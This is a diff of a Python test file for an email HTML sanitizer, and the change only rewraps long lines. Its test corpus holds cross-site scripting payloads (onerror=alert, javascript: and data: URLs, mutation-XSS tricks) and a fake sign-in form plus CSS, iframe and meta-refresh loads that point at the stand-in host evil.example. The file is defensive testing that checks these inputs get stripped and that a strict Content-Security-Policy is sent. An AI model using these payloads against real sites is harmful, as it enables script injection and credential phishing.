@@ -18,10 +18,14 @@ CORPUS = [
     "<svg><style><img src=x onerror=alert(1)></style></svg>",
     "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
     "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
-    "<a href='javascript:alert(1)'>x</a><a href='data:text/html,<script>alert(1)</script>'>x</a><a href=' java\nscript:alert(1)'>x</a>",
-    "<style>body{background:url(https://evil.example)}</style><p style='background:url(https://evil.example)'>x</p>",
-    "<iframe src=https://evil.example></iframe><object data=x></object><embed src=x><base href=https://evil.example>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'><link rel=stylesheet href=https://evil.example>",
+    "<a href='javascript:alert(1)'>x</a><a href='data:text/html,<script>alert(1)</script>'>x</a><a href=' "
+    "java\nscript:alert(1)'>x</a>",
+    "<style>body{background:url(https://evil.example)}</style><p "
+    "style='background:url(https://evil.example)'>x</p>",
+    "<iframe src=https://evil.example></iframe><object data=x></object><embed src=x><base "
+    "href=https://evil.example>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'><link rel=stylesheet "
+    "href=https://evil.example>",
     "<img srcset='https://evil.example 1x' src=data:image/svg+xml;base64,PHN2Zz4=>",
     "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
     "<template><script>alert(1)</script></template><xss onclick=alert(1)>x</xss>",
@@ -42,7 +46,9 @@ def _tags(html: str) -> str:
 def test_the_first_wall_lets_nothing_through_that_acts(evil: str) -> None:
     left = _tags(clean(f"<p>before</p>{evil}<p>after</p>").html)
     assert not FORBIDDEN.search(left)
-    assert not re.search(r"(href|src)\s*=\s*[\"']?\s*(javascript|data:(?!image/(png|gif|jpeg|webp)))", left, re.IGNORECASE)
+    assert not re.search(
+        r"(href|src)\s*=\s*[\"']?\s*(javascript|data:(?!image/(png|gif|jpeg|webp)))", left, re.IGNORECASE
+    )
     assert not re.search(r"<img[^>]*evil\.example", left)
 
 
@@ -62,10 +68,18 @@ def test_what_an_ordinary_mail_has_stays() -> None:
 
 def test_pictures_from_elsewhere_are_counted_and_not_loaded() -> None:
     here = "data:image/png;base64,iVBORw0KGgo="
-    mail = f'<img src="https://t.example/1.gif" alt="logo"><img src="//t.example/2.gif"><img src="cid:3" alt="attached"><img src="{here}">'
+    mail = (
+        '<img src="https://t.example/1.gif" alt="logo"><img src="//t.example/2.gif"><img src="cid:3" '
+        f'alt="attached"><img src="{here}">'
+    )
     made = clean(mail)
     assert made.blocked == 2  # a part of the mail itself is not elsewhere, and we send none
-    assert (made.html.count("<img"), made.html.count("src="), here in made.html, 'alt="logo"' in made.html) == (4, 1, True, True)
+    assert (
+        made.html.count("<img"),
+        made.html.count("src="),
+        here in made.html,
+        'alt="logo"' in made.html,
+    ) == (4, 1, True, True)
     assert "2 pictures that would be loaded from elsewhere are not shown" in document(mail)
     assert "not shown" not in document("<p>Hi</p>")
 
@@ -86,8 +100,8 @@ def test_the_second_wall_is_a_policy_of_its_own(client: Client) -> None:
     response = client.get(f"/communications/{message.key.hex}/preview/")
     policy = {part.strip() for part in response["Content-Security-Policy"].split(";")}
     assert policy == {
-        "sandbox", "default-src 'none'", "style-src 'unsafe-inline'", "img-src data:", "base-uri 'none'", "form-action 'none'",
-        "frame-ancestors 'self'",
+        "sandbox", "default-src 'none'", "style-src 'unsafe-inline'", "img-src data:", "base-uri 'none'",
+        "form-action 'none'", "frame-ancestors 'self'",
     }  # fmt: skip
     assert response["Content-Type"] == "text/html; charset=utf-8"
     assert (response["X-Frame-Options"], response["X-Content-Type-Options"]) == ("SAMEORIGIN", "nosniff")
